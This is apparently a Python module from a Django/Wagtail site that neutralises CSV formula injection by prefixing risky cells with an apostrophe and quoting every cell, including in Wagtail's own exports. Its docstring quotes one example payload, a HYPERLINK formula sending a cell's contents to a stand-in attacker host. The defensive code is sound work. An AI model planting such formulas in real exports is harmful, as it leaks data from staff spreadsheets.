"""CSV files people open in a spreadsheet: no cell can run as a formula.

A learner who names herself ``=HYPERLINK("http://evil.example/?d="&B2,"klik")``
must not get a working link (or a formula reading other cells) into the staff's
spreadsheet. Following OWASP's "CSV Injection" advice, a text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a line break (or their full-width
forms, which some spreadsheets read the same way) gets a leading apostrophe, and
every cell is quoted so that a separator inside it cannot start a new cell.
Numbers are written as numbers.

Every CSV export goes through :class:`SafeCsvWriter`; Wagtail's own spreadsheet
exports (reports, listings) through :func:`wagtail_csv_exports_neutralise`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text, never as a formula."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.lstrip(" \u00a0").startswith(FORMULA_TRIGGERS):
        return f"'{value}"
    return value


class SafeCsvWriter:
    """``csv.writer`` whose cells are all quoted and neutralised."""

    def __init__(self, stream, **kwargs):
        kwargs.setdefault("quoting", csv.QUOTE_ALL)
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([csv_safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def _write_csv_row(self, writer, row_dict):
    return writer.writerow(
        {
            field: csv_safe_cell(
                self.preprocess_field_value(field, value, self.FORMAT_CSV)
            )
            for field, value in row_dict.items()
        }
    )


def wagtail_csv_exports_neutralise() -> None:
    """Wagtail's CSV exports (reports, form submissions, model listings) write
    page titles and user names as they are: neutralise their cells too.

    Wagtail already turns formulas into text in its XLSX exports; its CSV rows
    all go through ``SpreadsheetExportMixin.write_csv_row``, replaced here once
    (``home.apps.HomeConfig.ready``).
    """
    SpreadsheetExportMixin.write_csv_row = _write_csv_row
